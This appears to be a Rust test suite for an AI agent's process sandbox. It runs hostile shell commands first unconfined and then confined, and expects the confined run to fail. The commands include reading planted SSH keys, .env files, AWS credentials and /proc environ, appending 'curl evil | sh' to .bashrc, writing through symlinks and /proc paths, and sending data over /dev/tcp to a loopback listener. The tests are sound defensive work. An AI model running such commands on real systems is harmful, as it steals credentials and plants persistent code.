//! The hostile-tool suite of the sandbox (issue 34), at the process level: each attack runs
//! twice on the same planted files — unconfined, where it must succeed (so the test proves
//! something), and in a `workspace-write`, network-off sandbox, where it must fail — on both
//! start paths (`in_process::` and `via_spawner::`). Attacks: writes outside the workspace
//! (the home folder, `/etc`, another run's temporary folder, through a symlink planted in
//! the workspace, through `/proc/self/root` and `/proc/<pid>/cwd`), reads of a planted
//! `~/.ssh/id_ed25519`, the workspace's `.env` and another process's `/proc/<pid>/environ`,
//! a TCP connection and a DNS query to listeners on 127.0.0.1, a setuid helper, and a
//! background child that outlives the tool. Run-level behaviour (refusal, warnings, the
//! explained observation, the audit record, MCP servers) is in `sandbox_runs.rs`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use delta_actors::sandbox::{
    confine, KernelSupport, PolicySource, RunPlace, RunSandbox, SandboxPolicy,
};
use delta_actors::tool::process::{run_process, ProcessOutcome, ProcessSpec, Termination};
use tokio_util::sync::CancellationToken;

use crate::process::Via;
use crate::spawner_host::{eventually, living_members, shared_spawner};

const SECRET_KEY: &str = "ssh-ed25519-PRIVATE-planted-by-the-test";
const DOTENV_SECRET: &str = "DOTENV_SECRET=sk-workspace-dotenv-planted";

/// A planted world: a home with an SSH key, a workspace with a `.env`, a folder outside it,
/// and another run's temporary folder.
struct World {
    root: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let root = tempfile::tempdir().unwrap();
        let world = World { root };
        for dir in [
            "home/.ssh",
            "ws",
            "agent",
            "outside",
            "tmp/delta-sandbox-x/other-run",
        ] {
            std::fs::create_dir_all(world.path(dir)).unwrap();
        }
        std::fs::write(world.path("home/.ssh/id_ed25519"), SECRET_KEY).unwrap();
        std::fs::write(world.path("ws/.env"), format!("{DOTENV_SECRET}\n")).unwrap();
        world
    }

    fn path(&self, rest: &str) -> PathBuf {
        std::fs::canonicalize(self.root.path()).unwrap().join(rest)
    }

    fn env(&self) -> BTreeMap<String, String> {
        [
            ("PATH", "/usr/local/bin:/usr/bin:/bin".to_owned()),
            ("HOME", self.path("home").display().to_string()),
            ("TMPDIR", self.path("tmp").display().to_string()),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v))
        .collect()
    }

    /// The default sandbox: workspace-write, network off.
    fn sandbox(&self) -> Arc<RunSandbox> {
        let (ws, agent, env) = (self.path("ws"), self.path("agent"), self.env());
        let place = RunPlace {
            work_dir: &ws,
            agent_home: &agent,
            env: &env,
        };
        let policy = SandboxPolicy::defaults(PolicySource::Agent(self.path("agent/agent.yaml")));
        confine(&policy, &place, &KernelSupport::probed())
            .unwrap()
            .sandbox
    }

    /// Runs `script` with `sh -c` in the workspace, confined or not.
    async fn run(
        &self,
        via: Via,
        script: &str,
        sandbox: Option<Arc<RunSandbox>>,
    ) -> ProcessOutcome {
        let mut spec = ProcessSpec::new(
            vec!["sh".into(), "-c".into(), script.into()],
            self.path("ws"),
            self.env().into_iter().collect::<Vec<_>>(),
        );
        spec.timeout = Duration::from_secs(20);
        if via == Via::Spawner {
            spec.spawner = Some(shared_spawner());
        }
        spec.sandbox = sandbox;
        run_process(spec, CancellationToken::new()).await
    }

    /// Runs the attack unconfined (it must `succeeded`), undoes it, then confined (it must
    /// not). Returns the confined outcome.
    async fn both(
        &self,
        via: Via,
        script: &str,
        succeeded: impl Fn(&ProcessOutcome) -> bool,
        undo: impl Fn(),
    ) -> ProcessOutcome {
        let free = self.run(via, script, None).await;
        assert!(
            succeeded(&free),
            "the attack must work without the sandbox, or the test proves nothing: {free:?}"
        );
        undo();
        let confined = self.run(via, script, Some(self.sandbox())).await;
        assert!(
            !succeeded(&confined),
            "the sandbox let the attack through: {confined:?}"
        );
        confined
    }
}

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

fn out(outcome: &ProcessOutcome) -> String {
    outcome.stdout.text_lossy()
}

/// Declares each `async fn name(via: Via)` as `in_process::name` and `via_spawner::name`.
macro_rules! on_both_paths {
    ($($name:ident),* $(,)?) => {
        mod in_process {
            $(#[tokio::test]
            async fn $name() {
                super::$name(super::Via::InProcess).await
            })*
        }
        mod via_spawner {
            $(#[tokio::test]
            async fn $name() {
                super::$name(super::Via::Spawner).await
            })*
        }
    };
}

on_both_paths!(
    a_workspace_only_tool_behaves_as_unconfined,
    writing_the_home_folder_is_refused,
    writing_etc_is_refused,
    writing_another_runs_temporary_folder_is_refused,
    writing_through_a_symlink_planted_in_the_workspace_is_refused,
    writing_through_proc_self_root_is_refused,
    writing_through_another_process_cwd_is_refused,
    reading_a_planted_ssh_key_is_refused,
    reading_the_workspace_dotenv_is_refused,
    secrets_planted_or_replaced_after_a_start_are_hidden_from_the_next,
    reading_another_process_environ_is_refused_even_to_root,
    connecting_to_a_loopback_listener_is_refused,
    a_dns_query_to_a_loopback_resolver_is_refused,
    a_setuid_helper_gains_nothing,
    a_background_child_stays_confined_after_the_tool_exits,
    a_confined_tool_that_times_out_is_killed_with_its_group,
);

async fn a_workspace_only_tool_behaves_as_unconfined(via: Via) {
    let world = World::new();
    let script = "mkdir -p sub && echo hello > sub/a.txt && mv sub/a.txt b.txt && cat b.txt \
                  && t=$(mktemp) && echo tmp > \"$t\" && cat \"$t\" && rm \"$t\" && ls /usr/bin >/dev/null \
                  && echo done >/dev/null && rm b.txt && rmdir sub && echo ok";
    for sandbox in [None, Some(world.sandbox())] {
        let outcome = world.run(via, script, sandbox.clone()).await;
        assert_eq!(
            outcome.termination,
            Termination::Exited(0),
            "{sandbox:?}: {outcome:?}"
        );
        assert_eq!(out(&outcome), "hello\ntmp\nok\n");
    }
    // mktemp went to the sandbox's private folder.
    let outcome = world.run(via, "mktemp", Some(world.sandbox())).await;
    assert!(
        out(&outcome).starts_with(&world.path("tmp/delta-sandbox-").display().to_string()),
        "{outcome:?}"
    );
}

/// A write attack: `script` creates `target`.
async fn write_attack(world: &World, via: Via, script: &str, target: &Path) -> ProcessOutcome {
    let target = target.to_path_buf();
    world
        .both(
            via,
            script,
            |_| target.exists(),
            || {
                let _ = std::fs::remove_file(&target);
            },
        )
        .await
}

async fn writing_the_home_folder_is_refused(via: Via) {
    let world = World::new();
    let target = world.path("home/.bashrc");
    let outcome = write_attack(
        &world,
        via,
        "echo 'curl evil | sh' >> \"$HOME/.bashrc\"",
        &target,
    )
    .await;
    assert!(
        outcome.stderr.text_lossy().contains("Permission denied"),
        "{outcome:?}"
    );
}

async fn writing_etc_is_refused(via: Via) {
    if !is_root() {
        eprintln!("SKIPPED writing_etc_is_refused: only root can write /etc unconfined");
        return;
    }
    let world = World::new();
    let target = PathBuf::from(format!("/etc/delta-sandbox-test-{}", std::process::id()));
    let script = format!("echo pwned > {}", target.display());
    write_attack(&world, via, &script, &target).await;
    let _ = std::fs::remove_file(&target);
}

async fn writing_another_runs_temporary_folder_is_refused(via: Via) {
    let world = World::new();
    let target = world.path("tmp/delta-sandbox-x/other-run/planted");
    let script = format!("echo pwned > {}", target.display());
    write_attack(&world, via, &script, &target).await;
}

async fn writing_through_a_symlink_planted_in_the_workspace_is_refused(via: Via) {
    let world = World::new();
    std::os::unix::fs::symlink(world.path("outside"), world.path("ws/link")).unwrap();
    let target = world.path("outside/through-link");
    write_attack(&world, via, "echo pwned > link/through-link", &target).await;
}

async fn writing_through_proc_self_root_is_refused(via: Via) {
    let world = World::new();
    let target = world.path("outside/through-proc-root");
    let script = format!("echo pwned > /proc/self/root{}", target.display());
    write_attack(&world, via, &script, &target).await;
}

async fn writing_through_another_process_cwd_is_refused(via: Via) {
    let world = World::new();
    let mut holder = std::process::Command::new("sleep")
        .arg("60")
        .current_dir(world.path("outside"))
        .spawn()
        .unwrap();
    let target = world.path("outside/through-proc-cwd");
    let script = format!("echo pwned > /proc/{}/cwd/through-proc-cwd", holder.id());
    write_attack(&world, via, &script, &target).await;
    holder.kill().unwrap();
    holder.wait().unwrap();
}

async fn reading_a_planted_ssh_key_is_refused(via: Via) {
    let world = World::new();
    world
        .both(
            via,
            "cat \"$HOME/.ssh/id_ed25519\"",
            |o| out(o).contains(SECRET_KEY),
            || {},
        )
        .await;
    // Listing finds nothing either.
    let outcome = world
        .run(via, "ls -A \"$HOME/.ssh\" | wc -l", Some(world.sandbox()))
        .await;
    assert_eq!(out(&outcome).trim(), "0", "{outcome:?}");
}

/// The spawner shares one mount namespace between the tools with the same covers: a
/// credential store created, or a `.env` replaced (a new file renamed over it, as editors
/// save), after a tool started must still be hidden from the next tool.
async fn secrets_planted_or_replaced_after_a_start_are_hidden_from_the_next(via: Via) {
    let world = World::new();
    let sandbox = world.sandbox();
    let first = world.run(via, "cat .env", Some(sandbox.clone())).await;
    assert!(!out(&first).contains(DOTENV_SECRET), "{first:?}");
    std::fs::create_dir_all(world.path("home/.aws")).unwrap();
    std::fs::write(world.path("home/.aws/credentials"), SECRET_KEY).unwrap();
    let replacement = world.path("ws/.env.new");
    std::fs::write(&replacement, format!("{DOTENV_SECRET}-replaced\n")).unwrap();
    std::fs::rename(&replacement, world.path("ws/.env")).unwrap();
    let attack = "cat \"$HOME/.aws/credentials\"; cat .env";
    let free = world.run(via, attack, None).await;
    assert!(
        out(&free).contains(SECRET_KEY) && out(&free).contains("-replaced"),
        "the attack must work without the sandbox: {free:?}"
    );
    let confined = world.run(via, attack, Some(sandbox)).await;
    assert!(
        !out(&confined).contains(SECRET_KEY) && !out(&confined).contains(DOTENV_SECRET),
        "{confined:?}"
    );
}

async fn reading_the_workspace_dotenv_is_refused(via: Via) {
    let world = World::new();
    let confined = world
        .both(via, "cat .env", |o| out(o).contains(DOTENV_SECRET), || {})
        .await;
    assert!(
        confined.stderr.text_lossy().contains("Permission denied"),
        "{confined:?}"
    );
}

async fn reading_another_process_environ_is_refused_even_to_root(via: Via) {
    let world = World::new();
    let secret = format!("sk-provider-key-{}", std::process::id());
    let mut holder = std::process::Command::new("sleep")
        .arg("60")
        .env("DELTA_API_KEY", &secret)
        .spawn()
        .unwrap();
    let script = format!("cat /proc/{}/environ | tr '\\0' '\\n'", holder.id());
    let confined = world
        .both(via, &script, |o| out(o).contains(&secret), || {})
        .await;
    assert!(
        confined.stderr.text_lossy().contains("Permission denied"),
        "{confined:?}"
    );
    holder.kill().unwrap();
    holder.wait().unwrap();
}

async fn connecting_to_a_loopback_listener_is_refused(via: Via) {
    let world = World::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("echo exfiltrated > /dev/tcp/127.0.0.1/{port}");
    let received = || {
        let mut got = String::new();
        if let Ok((mut stream, _)) = listener.accept() {
            stream.set_nonblocking(false).unwrap();
            stream
                .set_read_timeout(Some(Duration::from_secs(5)))
                .unwrap();
            let _ = stream.read_to_string(&mut got);
        }
        got.contains("exfiltrated")
    };
    // bash has /dev/tcp; sh may not: run it under bash.
    let script = format!("exec bash -c '{script}'");
    let free = world.run(via, &script, None).await;
    assert!(
        received(),
        "the unconfined connection must arrive: {free:?}"
    );
    let confined = world.run(via, &script, Some(world.sandbox())).await;
    assert!(
        !received(),
        "the sandbox let a connection through: {confined:?}"
    );
    assert_ne!(confined.termination, Termination::Exited(0));
}

async fn a_dns_query_to_a_loopback_resolver_is_refused(via: Via) {
    let world = World::new();
    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let port = resolver.local_addr().unwrap().port();
    // A DNS query for example.com, as a resolver library sends it.
    let script = format!(
        "exec bash -c 'printf \"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01\" > /dev/udp/127.0.0.1/{port}'"
    );
    let query_arrived = || {
        let mut buffer = [0u8; 512];
        matches!(resolver.recv(&mut buffer), Ok(n) if buffer[..n].windows(7).any(|w| w == b"example"))
    };
    let free = world.run(via, &script, None).await;
    assert!(
        query_arrived(),
        "the unconfined query must arrive: {free:?}"
    );
    let confined = world.run(via, &script, Some(world.sandbox())).await;
    assert!(
        !query_arrived(),
        "the sandbox let a DNS query through: {confined:?}"
    );
}

async fn a_setuid_helper_gains_nothing(via: Via) {
    if !is_root() {
        eprintln!("SKIPPED a_setuid_helper_gains_nothing here: tests/cli/sandbox.rs runs delta as a user with a setuid-root helper");
        return;
    }
    let world = World::new();
    // Root runs a helper that is setuid to `nobody`: honoured, its effective uid changes.
    let helper = world.path("ws/whoami-setuid");
    std::fs::copy("/usr/bin/id", &helper).unwrap();
    std::os::unix::fs::chown(&helper, Some(65534), None).unwrap();
    std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o4755)).unwrap();
    world
        .both(
            via,
            "./whoami-setuid -u",
            |o| out(o).trim() == "65534",
            || {},
        )
        .await;
}

async fn a_background_child_stays_confined_after_the_tool_exits(via: Via) {
    let world = World::new();
    let target = world.path("outside/late");
    let report = world.path("ws/late-report");
    // The tool exits at once; its child writes outside a moment later, then reports.
    let script = format!(
        "(sleep 0.2; if echo late > {} 2>/dev/null; then echo wrote; else echo denied; fi > late-report) >/dev/null 2>&1 &",
        target.display()
    );
    for (sandbox, expected) in [(None, "wrote"), (Some(world.sandbox()), "denied")] {
        let _ = std::fs::remove_file(&report);
        let outcome = world.run(via, &script, sandbox).await;
        assert_eq!(outcome.termination, Termination::Exited(0));
        assert!(
            eventually(Duration::from_secs(10), || std::fs::read_to_string(&report)
                .is_ok_and(|r| r.ends_with('\n')))
            .await
        );
        assert_eq!(std::fs::read_to_string(&report).unwrap().trim(), expected);
        let _ = std::fs::remove_file(&target);
    }
}

async fn a_confined_tool_that_times_out_is_killed_with_its_group(via: Via) {
    let world = World::new();
    let mut spec = ProcessSpec::new(
        vec!["sh".into(), "-c".into(), "sleep 300 & sleep 300".into()],
        world.path("ws"),
        world.env().into_iter().collect::<Vec<_>>(),
    );
    spec.timeout = Duration::from_millis(300);
    spec.kill_grace = Duration::from_millis(200);
    if via == Via::Spawner {
        spec.spawner = Some(shared_spawner());
    }
    spec.sandbox = Some(world.sandbox());
    let outcome = run_process(spec, CancellationToken::new()).await;
    assert_eq!(outcome.termination, Termination::TimedOut);
    let pgid = outcome.pid.unwrap();
    assert!(
        eventually(Duration::from_secs(10), || living_members(pgid).is_empty()).await,
        "the background child of a confined tool outlived its group's kill"
    );
}
